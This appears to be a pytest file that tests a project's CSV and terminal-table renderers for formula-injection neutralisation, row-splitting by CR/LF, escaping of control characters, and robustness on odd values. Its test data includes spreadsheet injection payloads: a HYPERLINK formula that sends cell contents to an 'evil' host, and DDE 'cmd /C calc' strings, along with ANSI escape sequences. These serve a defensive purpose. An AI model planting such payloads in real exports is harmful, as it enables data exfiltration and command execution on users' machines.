"""CSV exports and terminal tables: no formula injection, no row split by a bare CR, no raw control
characters on the terminal, and no crash on any value the engine returns."""

from __future__ import annotations

import csv
import datetime as dt
import io
import ipaddress
import uuid
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from streams.audit.tools import QueryResult, render_csv, render_table
from streams.audit.report_html import write_csv

DANGEROUS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", DANGEROUS)
def test_sql_csv_neutralises_formulas_with_a_leading_quote(value):
    rows = parsed(render_csv(QueryResult(["v"], [(value,)])))
    assert rows == [["v"], ["'" + value]]


def test_sql_csv_leaves_numbers_dates_and_plain_text_alone():
    rows = parsed(render_csv(QueryResult(["h", "d", "s", "n"], [(Decimal("-7.50"), dt.date(2024, 3, 4), "gpe-c001",
                                                                -3)])))
    assert rows[1] == ["-7.50", "2024-03-04", "gpe-c001", "-3"]


def test_sql_csv_header_is_neutralised_too():
    rows = parsed(render_csv(QueryResult(["=1+1"], [(1,)])))
    assert rows[0] == ["'=1+1"]


def unquoted(text: str) -> str:
    """The CSV text without its quoted fields' contents: what a naive reader splits lines on."""
    out, inside = [], False
    for ch in text:
        if ch == '"':
            inside = not inside
        elif not inside:
            out.append(ch)
    return "".join(out)


@pytest.mark.parametrize("value", ["a\rb", "a\nb", "a\r\nb", "a,b", 'a"b', "a\rb\r"])
def test_sql_csv_quotes_cells_with_cr_lf_commas_and_quotes_so_rows_never_split(value):
    text = render_csv(QueryResult(["v", "w"], [(value, "x"), ("y", "z")]))
    assert parsed(text) == [["v", "w"], [value, "x"], ["y", "z"]]
    # Outside quoted fields, a line break is only ever the record separator: never a bare CR or LF.
    assert unquoted(text).split("\r\n") == ["v,w", ",x", "y,z", ""]


def test_report_csv_neutralises_formulas_and_quotes_cr(tmp_path):
    path = tmp_path / "contracts.csv"
    write_csv([{"contract_id": "=HYPERLINK(\"http://evil\")", "lot": "a\rb", "target_hours": Decimal("-1.00"),
                "start_date": dt.date(2024, 1, 1)}], path)
    with path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows == [{"contract_id": "'=HYPERLINK(\"http://evil\")", "lot": "a\rb", "start_date": "2024-01-01",
                     "target_hours": "-1.00"}]
    assert '"a\rb"' in path.read_bytes().decode()


def test_terminal_table_escapes_ansi_and_other_control_characters():
    text = render_table(QueryResult(["\x1b[2Jname", "v"], [("\x1b[31mred\x1b[0m", "a\rb\nc\td\x07\x7f\x9b\u202e")]))
    for raw in ("\x1b", "\r", "\x07", "\x7f", "\x9b", "\u202e", "\t"):
        assert raw not in text
    assert "\\x1b[31mred\\x1b[0m" in text
    assert "\\x1b[2Jname" in text
    assert "a\\rb\\nc\\td\\x07\\x7f\\x9b\\u202e" in text
    assert len(text.splitlines()) == 4  # header, rule, one row, count


ODD_VALUES = [
    dt.datetime(9999, 12, 31, 23, 59, 59, tzinfo=ZoneInfo("Etc/GMT-14")), dt.datetime.max, dt.datetime.min,
    dt.date.max, dt.date.min, dt.timedelta(days=-1), float("nan"), float("inf"), -float("inf"), b"\x00\xff",
    {"a": [1, None]}, (1, "x"), [[1], []], uuid.UUID(int=1), ipaddress.ip_address("::1"), None, True,
    Decimal("1e30"), Decimal("NaN"), 2**200, "\x00", object(),
]


@pytest.mark.parametrize("value", ODD_VALUES, ids=[type(v).__name__ + str(i) for i, v in enumerate(ODD_VALUES)])
def test_renderers_never_crash_on_any_value(value):
    result = QueryResult(["v", "v"], [(value, value)])
    assert render_csv(result)
    assert render_table(result)
